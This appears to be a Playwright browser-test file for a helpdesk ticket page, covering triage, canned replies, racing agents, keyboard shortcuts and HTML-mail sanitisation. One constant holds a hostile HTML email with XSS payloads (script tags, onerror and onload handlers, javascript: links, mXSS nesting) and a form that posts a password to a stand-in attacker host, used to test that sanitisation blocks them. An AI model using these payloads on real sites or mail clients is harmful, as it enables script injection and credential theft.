"""The desk ticket page in Chromium: triage → reply with a canned response → resolve; two
agents racing on one ticket; the keyboard (r, n, a); a hostile HTML mail shown on the page
runs nothing and loads nothing remote; the screenshot ``docs/screenshots/desk-ticket.png``."""

import re
from email.message import EmailMessage
from urllib.parse import urlsplit

from playwright.sync_api import expect

from atiende.tickets import actions, work
from atiende.tickets.codes import Channel
from atiende.tickets.models import CannedResponse
from tests import factories
from tests.browser.conftest import DESKTOP, login_as, screenshot
from tests.web.helpers import customer_ticket, sla_policy, text_upload


def toast(page, text: str):
    return page.get_by_role("status").filter(has_text=text)


def _ticket(personas, group=None):
    sla_policy()
    return customer_ticket(
        personas,
        group=group,
        subject="Calls drop after 30 seconds",
        description="Every outbound call on the main trunk drops at 30 s.",
        attachments=[text_upload("trace.txt")],
    )


def test_agent_triages_replies_with_a_canned_response_and_resolves(page, personas):
    group = factories.group(name="Voice level 1", slug="voice-l1")
    factories.group(name="Voice level 2", slug="voice-l2", tier="level2")
    CannedResponse.objects.create(
        name="Looking into it",
        group=group,
        text="Hello {requester_name}, case {case_number} is with {agent_name}.",
    )
    ticket = _ticket(personas)
    personas.agent.first_name, personas.agent.last_name = "Ana", "Agent"
    personas.agent.save()
    login_as(page, personas.agent)
    page.goto(f"/desk/tickets/{ticket.pk}/")
    expect(page.get_by_role("heading", name=ticket.subject)).to_be_visible()

    # Triage: priority from the grid, then the group.
    page.get_by_role(
        "button", name="Urgency High, impact Whole organisation: priority Urgent"
    ).click()
    expect(
        page.get_by_role("status").filter(has_text="The priority is now Urgent.")
    ).to_be_visible()
    page.get_by_label("Support group").select_option(label="Voice level 1")
    page.get_by_label(re.compile(r"^Agent")).select_option(label="Ana Agent")
    page.get_by_role("button", name="Save assignment").click()
    expect(page.get_by_role("status").filter(has_text="Assignment saved.")).to_be_visible()

    # Reply with the canned response: the picker fills the composer, placeholders rendered.
    composer = page.get_by_label("Message")
    composer.fill("Thanks for the trace.")
    page.get_by_label("Canned response").select_option(label="Looking into it · Voice level 1")
    expect(page.get_by_label("Message")).to_have_value(
        f"Thanks for the trace.\n\nHello {ticket.requester.name}, case {ticket.number} is with "
        "Ana Agent."
    )
    page.get_by_role("button", name="Send reply to the customer").click()
    expect(
        page.get_by_role("status").filter(has_text="Reply sent to the customer.")
    ).to_be_visible()
    expect(page.locator(".timeline .message-public").last).to_contain_text(
        f"case {ticket.number} is with Ana Agent."
    )

    # Resolve: only the workflow's manual moves are buttons.
    page.get_by_role("button", name="Resolved").click()
    expect(page.get_by_role("status").filter(has_text="The ticket is now")).to_be_visible()
    ticket.refresh_from_db()
    assert ticket.state.code == "resolved"
    assert ticket.priority == "urgent"
    assert ticket.group == group
    assert ticket.messages.filter(kind="public").last().text.endswith("is with Ana Agent.")


def _second_agent(browser, live_server, user):
    """Another agent's browser: its own context (cookies), nothing leaves the machine."""
    context = browser.new_context(viewport=DESKTOP, locale="en-US", base_url=live_server.url)
    context.set_default_timeout(10_000)
    server = urlsplit(live_server.url).netloc
    context.route(
        re.compile(r".*"),
        lambda route: (
            route.continue_()
            if urlsplit(route.request.url).netloc == server
            else route.abort("blockedbyclient")
        ),
    )
    other = context.new_page()
    errors = []
    other.on("pageerror", lambda error: errors.append(str(error)))
    from django.conf import settings
    from django.test import Client

    client = Client()
    client.force_login(user)
    context.add_cookies(
        [
            {
                "name": settings.SESSION_COOKIE_NAME,
                "value": client.cookies[settings.SESSION_COOKIE_NAME].value,
                "url": live_server.url,
            }
        ]
    )
    return context, other, errors


def test_two_agents_racing_never_overwrite_each_other(page, browser, live_server, personas):
    ticket = _ticket(personas)
    login_as(page, personas.agent)
    context, other, errors = _second_agent(browser, live_server, personas.agent_l2)
    try:
        page.goto(f"/desk/tickets/{ticket.pk}/")
        other.goto(f"/desk/tickets/{ticket.pk}/")

        # The second agent writes a reply; meanwhile the first one adds a note.
        other.get_by_label("Message").fill("Restart the trunk, please.")
        page.get_by_label("Message").fill("Customer phoned: it fails on every line.")
        page.get_by_role("button", name="Add internal note").click()
        expect(page.get_by_role("status").filter(has_text="Internal note added.")).to_be_visible()

        other.get_by_role("button", name="Send reply to the customer").click()
        alert = other.locator("#changed-meanwhile")
        expect(alert).to_contain_text("This ticket changed while you were working on it")
        expect(alert).to_contain_text("Internal note added")
        expect(other.get_by_text("was changed by someone else meanwhile")).to_be_visible()
        # Their text is still in the composer, and nothing was sent.
        expect(other.get_by_label("Message")).to_have_value("Restart the trunk, please.")
        assert not ticket.messages.filter(text="Restart the trunk, please.").exists()
        # The note the first agent added is on the page now; sending again is deliberate.
        expect(other.locator(".timeline .message-internal")).to_contain_text("every line")
        other.get_by_role("button", name="Send reply to the customer").click()
        expect(other.get_by_role("status").filter(has_text="Reply sent")).to_be_visible()
        assert ticket.messages.filter(text="Restart the trunk, please.").count() == 1

        # Same with a field change: assignment saved by one, priority picked by the other.
        page.reload()
        page.get_by_label(re.compile(r"^Agent")).select_option(label="agent")
        page.get_by_role("button", name="Save assignment").click()
        expect(page.get_by_role("status").filter(has_text="Assignment saved.")).to_be_visible()
        other.get_by_role("button", name=re.compile(r"^Urgency Low, impact One person")).click()
        expect(other.locator("#changed-meanwhile")).to_contain_text("Assignment changed")
        ticket.refresh_from_db()
        assert ticket.priority == "" and ticket.assignee == personas.agent
        assert errors == []
    finally:
        context.close()


def test_keyboard_reaches_reply_note_and_assign(page, personas):
    ticket = _ticket(personas)
    login_as(page, personas.agent)
    page.goto(f"/desk/tickets/{ticket.pk}/")
    page.locator("main h1").click()
    page.keyboard.press("r")
    expect(page.get_by_label("Message")).to_be_focused()
    page.keyboard.type("typed, not a shortcut: a r n")
    expect(page.get_by_label("Message")).to_have_value("typed, not a shortcut: a r n")
    page.locator("main h1").click()
    page.keyboard.press("a")
    expect(page.get_by_label(re.compile(r"^Agent"))).to_be_focused()
    page.locator("main h1").click()
    page.keyboard.press("n")
    expect(page.get_by_label("Message")).to_be_focused()
    assert page.get_by_label("Message").get_attribute("aria-keyshortcuts") == "R N"


HOSTILE = """<html><head>
<base href="https://attacker.example/">
<meta http-equiv="refresh" content="0; url=https://attacker.example/phish">
<style>body { background: url(https://attacker.example/bg.png);
  width: expression(alert(1)); }</style>
<script>window.__pwned = "script"; alert("script");</script>
</head><body onload="window.__pwned='onload'">
<p>The router is down since 08:00.</p>
<img src="https://attacker.example/pixel.gif" onerror="window.__pwned='onerror'" alt="pixel">
<img src=x onerror="alert('img')">
<a href="javascript:window.__pwned='link'">Click here</a>
<a href="JaVaScRiPt:alert(2)">Again</a>
<svg><script>window.__pwned='svg'</script><circle onload="alert(3)"/></svg>
<svg onload="window.__pwned='svg-onload'"><foreignObject>
  <img src=x onerror=alert(4)></foreignObject></svg>
<div style="background-image: url('https://attacker.example/style.png');
  width: expression(alert(5))">styled</div>
<form action="https://attacker.example/steal" method="post">
  <input name="password"><button>Send</button></form>
<iframe src="https://attacker.example/frame"></iframe>
<object data="https://attacker.example/flash.swf"></object>
<math><mtext><table><mglyph><style><img src=x onerror=alert(6)></style>
  </mglyph></table></mtext></math>
<p>Regards</p>
</body></html>"""


def test_a_hostile_html_mail_runs_nothing_and_loads_nothing_remote(page, personas):
    from atiende.channels.mail import actions as mail_actions

    factories.contact(personas.org, name="Mail Sender", email="sender@example.com")
    mail = EmailMessage()
    mail["From"] = "Mail Sender <sender@example.com>"
    mail["To"] = "support@example.com"
    mail["Subject"] = "Router down"
    mail["Message-ID"] = "<hostile-1@mail.example.com>"
    mail.set_content("The router is down since 08:00.")
    mail.add_alternative(HOSTILE, subtype="html")
    _inbound, outcome = mail_actions.ingest(mail.as_bytes(), source="test")
    ticket = outcome.ticket
    assert ticket is not None, outcome
    # The HTML part was kept (sanitised), so the page shows mail HTML, not just the text part.
    stored = ticket.messages.get()
    assert "Click here" in stored.html and "Regards" in stored.html
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    login_as(page, personas.agent)
    page.goto(f"/desk/tickets/{ticket.pk}/")
    body = page.locator(".timeline .message").first
    expect(body).to_contain_text("The router is down since 08:00.")
    expect(body).to_contain_text("Regards")
    # Nothing of the mail's active content reached the page.
    for selector in ("script", "iframe", "object", "form", "base", "meta[http-equiv]", "svg"):
        assert body.locator(selector).count() == 0, selector
    assert page.locator("base").count() == 0
    assert page.locator("[onerror], [onload], [style]").count() == 0
    assert body.locator("a[href^='javascript' i]").count() == 0
    body.get_by_text("Click here").click()
    page.wait_for_timeout(300)
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert dialogs == []
    assert page.url.endswith(f"/desk/tickets/{ticket.pk}/")
    # The harness fails the test on any page error or request to another host.
    assert page.recorder.remote_requests == []


def test_screenshot_of_the_ticket_page(page, personas):
    group = factories.group(name="Voice level 1", slug="voice-l1")
    factories.group(name="Voice level 2", slug="voice-l2", tier="level2")
    ticket = _ticket(personas, group=group)
    actions.change_priority(
        ticket, actor=personas.agent, channel=Channel.WEB, urgency="high", impact="department"
    )
    actions.add_note(
        ticket,
        actor=personas.agent,
        channel=Channel.WEB,
        text="The trunk's session timer is 30 s: matches the drops.",
    )
    work.log_phone_call(
        ticket,
        actor=personas.agent,
        channel=Channel.WEB,
        direction="out",
        outcome="answered",
        duration_seconds=245,
        notes="Customer confirms every outbound call drops; inbound is fine.",
    )
    actions.reply(
        ticket,
        actor=personas.agent,
        channel=Channel.WEB,
        text="We found the cause and are changing the trunk's timer tonight.",
    )
    work.add_time_entry(
        ticket, actor=personas.agent, channel=Channel.WEB, minutes=25, note="Trace", billable=True
    )
    login_as(page, personas.agent)
    page.goto(f"/desk/tickets/{ticket.pk}/")
    expect(page.get_by_role("heading", name=ticket.subject)).to_be_visible()
    screenshot(page, "desk-ticket", phone=True)


def test_note_with_a_file_call_time_and_escalation_through_htmx(page, personas, tmp_path):
    level1 = factories.group(name="Voice level 1", slug="voice-l1")
    factories.group(name="Voice level 2", slug="voice-l2", tier="level2")
    ticket = _ticket(personas, group=level1)
    login_as(page, personas.agent)
    page.goto(f"/desk/tickets/{ticket.pk}/")
    navigations = []
    page.on("framenavigated", lambda frame: navigations.append(frame.url))

    capture = tmp_path / "capture.txt"
    capture.write_text("INVITE sip:100@example.com\n")
    page.get_by_label("Message").fill("Capture of the failing call.")
    page.get_by_label("Attach files").set_input_files(str(capture))
    page.get_by_role("button", name="Add internal note").click()
    note = page.locator(".timeline .message-internal").last
    expect(note).to_contain_text("Capture of the failing call.")
    expect(note.get_by_role("link", name="capture.txt")).to_be_visible()

    page.get_by_text("Log a phone call").click()
    page.get_by_label("Outgoing call").check()
    page.get_by_label("Answered").check()
    page.get_by_label("Duration (minutes)").fill("3")
    page.get_by_label("What was said").fill("The customer confirms the drops.")
    page.get_by_role("button", name="Log call").click()
    expect(toast(page, "Phone call logged.")).to_be_visible()
    expect(page.locator(".timeline .message-call")).to_contain_text("3 min 0 s")

    page.get_by_text("Time worked").click()
    page.get_by_label("Minutes worked").fill("25")
    page.get_by_label("Billable to the customer").check()
    page.get_by_role("button", name="Add time").click()
    expect(page.get_by_text("Total 25 min, of which 25 min billable")).to_be_visible()

    page.get_by_label("Why the next tier?").fill("Needs the trunk configuration.")
    page.get_by_role("button", name="Escalate to Voice level 2").click()
    expect(toast(page, "Escalated to Voice level 2.")).to_be_visible()
    expect(page.locator(".timeline")).to_contain_text(
        "Escalated from group Voice level 1 to Voice level 2: Needs the trunk configuration."
    )
    # Every answer was an htmx swap of the ticket body: the page itself never reloaded.
    assert navigations == []
    ticket.refresh_from_db()
    assert ticket.group.slug == "voice-l2"
    assert ticket.attachments.filter(filename="capture.txt", message__kind="internal").exists()
    assert ticket.phone_calls.get().duration_seconds == 180
    assert ticket.time_entries.get().billable
